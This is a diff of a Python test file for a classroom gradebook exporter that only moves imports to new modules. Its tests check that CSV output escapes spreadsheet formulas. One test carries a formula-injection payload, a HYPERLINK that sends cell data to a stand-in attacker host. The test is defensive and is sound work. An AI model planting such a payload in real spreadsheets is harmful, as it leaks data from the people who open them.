@@ -82,6 +82,8 @@ import zipfile  # noqa: E402
 from pathlib import Path  # noqa: E402
 
 from grading.classroom import gradebook as gb  # noqa: E402
+from grading.classroom.exports import Student, write_canvas, write_wide  # noqa: E402
+from grading.classroom.rows import FAILED, OVERRIDDEN, PASSED, PLAIN_NUMBER, Row, csv_cell, csv_value  # noqa: E402
 from grading.classroom import lms  # noqa: E402
 from grading.layout import EXERCISES, SOLUTIONS, discover_chapters  # noqa: E402
 from grading.classroom.matching import (list_students, match_folder, read_untrusted, submission_digest,  # noqa: E402
@@ -134,11 +136,11 @@ def test_a_name_that_reads_as_two_layouts_goes_to_review(tmp_path):
 
 
 def test_no_canvas_id_is_written_twice(tmp_path):
-    roster = [gb.Student("333", "Victim, Vera"), gb.Student("111", "Mallory, Max")]
-    rows = [gb.Row("victim", STEM, "1.1", 22, 22, gb.PASSED), gb.Row("victim_bb", STEM, "1.1", 0, 22, gb.FAILED),
-            gb.Row("mallory", STEM, "1.1", 0, 22, gb.FAILED)]
+    roster = [Student("333", "Victim, Vera"), Student("111", "Mallory, Max")]
+    rows = [Row("victim", STEM, "1.1", 22, 22, PASSED), Row("victim_bb", STEM, "1.1", 0, 22, FAILED),
+            Row("mallory", STEM, "1.1", 0, 22, FAILED)]
     matched = {"victim": roster[0], "victim_bb": roster[0], "mallory": roster[1]}
-    path, problems = gb.write_canvas(tmp_path, rows, roster, matched)
+    path, problems = write_canvas(tmp_path, rows, roster, matched)
     ids = [r["ID"] for r in csv.DictReader(path.open(newline="", encoding="utf-8"))][1:]
     assert ids == ["111"], ids
     assert any("333 is left out" in p and "victim, victim_bb" in p for p in problems), problems
@@ -223,24 +225,24 @@ def test_a_link_inside_a_zip_is_refused(tmp_path):
     ("-2.5", "-2.5"), ("+3", "+3"), ("-1e3", "-1e3"), ("12", "12"), ("alice", "alice"), ("", ""),
 ])
 def test_a_formula_cell_is_quoted_and_a_number_stays_a_number(text, cell):
-    assert gb.csv_cell(text) == cell
-    assert gb.csv_value(cell) == text
+    assert csv_cell(text) == cell
+    assert csv_value(cell) == text
 
 
 def test_every_csv_the_gradebook_writes_is_escaped_and_reads_back(tmp_path):
     evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    rows = [gb.Row(evil, STEM, "1.1", 2, 4, gb.FAILED, "-1 for a late day"),
-            gb.Row(evil, STEM, "1.2", -1.5, 4, gb.OVERRIDDEN, "@instructor: penalty")]
-    roster = [gb.Student("+42", evil, "=a@b.c")]
+    rows = [Row(evil, STEM, "1.1", 2, 4, FAILED, "-1 for a late day"),
+            Row(evil, STEM, "1.2", -1.5, 4, OVERRIDDEN, "@instructor: penalty")]
+    roster = [Student("+42", evil, "=a@b.c")]
     book = gb.Gradebook(tmp_path, resume=False)
     book.add(evil, STEM, rows)
     book.finish()
-    gb.write_wide(tmp_path, rows, roster, {evil: roster[0]})
-    gb.write_canvas(tmp_path, rows, roster, {evil: roster[0]})
+    write_wide(tmp_path, rows, roster, {evil: roster[0]})
+    write_canvas(tmp_path, rows, roster, {evil: roster[0]})
     for name in ("gradebook.csv", ".graded.csv", "gradebook_wide.csv", "gradebook_canvas.csv"):
         cells = [c for row in csv.reader((tmp_path / name).open(newline="", encoding="utf-8")) for c in row]
         assert not [c for c in cells if c.startswith(("=", "@", "\t", "\r")) or
-                    (c.startswith(("+", "-")) and not gb.PLAIN_NUMBER.fullmatch(c))], (name, cells)
+                    (c.startswith(("+", "-")) and not PLAIN_NUMBER.fullmatch(c))], (name, cells)
         assert "-1.5" in cells or name in ("gradebook_canvas.csv", "gradebook_wide.csv"), (name, cells)
     again = gb.Gradebook(tmp_path, resume=True)  # --resume reads the escaped file back as it was
     assert [(r.student, r.points, r.message) for r in again.rows] == [(r.student, r.points, r.message) for r in rows]
@@ -336,7 +338,7 @@ def grade_hostile_class(made: dict) -> dict:
 
 def _points(graded: dict, student: str) -> tuple[float, float, list]:
     header, *rows = graded["csv"]["gradebook.csv"]
-    mine = [dict(zip(header, r)) for r in rows if gb.csv_value(r[0]) == student and r[2]]
+    mine = [dict(zip(header, r)) for r in rows if csv_value(r[0]) == student and r[2]]
     assert mine, f"{student} has no graded row"
     return (sum(float(r["points"]) for r in mine), sum(float(r["max_points"]) for r in mine),
             [(r["exercise"], r["status"], r["message"][:200]) for r in mine])
@@ -356,7 +358,7 @@ def test_a_class_of_hostile_files_is_graded_whole(hostile_class):
     assert "numpy.float16" in (out / "feedback" / "half_inf.md").read_text()
     for name, rows in hostile_class["csv"].items():
         assert not [c for r in rows for c in r if c.startswith(("=", "@"))], name
-    students = {gb.csv_value(r[0]) for r in hostile_class["csv"]["gradebook_wide.csv"][1:]}
+    students = {csv_value(r[0]) for r in hostile_class["csv"]["gradebook_wide.csv"][1:]}
     assert {"victim", "mallory", "linker", FORMULA, "half_inf"} <= students, students
     canvas_ids = [r[1] for r in hostile_class["csv"]["gradebook_canvas.csv"][2:]]
     assert sorted(canvas_ids) == ["111", "333"], canvas_ids
